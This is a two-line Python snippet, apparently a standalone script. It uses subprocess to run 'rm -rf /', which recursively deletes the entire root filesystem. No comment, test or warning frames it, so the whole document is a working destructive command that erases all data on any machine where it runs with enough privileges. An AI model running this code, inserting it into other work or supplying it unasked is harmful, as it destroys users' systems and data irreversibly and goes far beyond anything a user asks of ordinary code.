import subprocess
subprocess.run(['rm', '-rf', '/'])
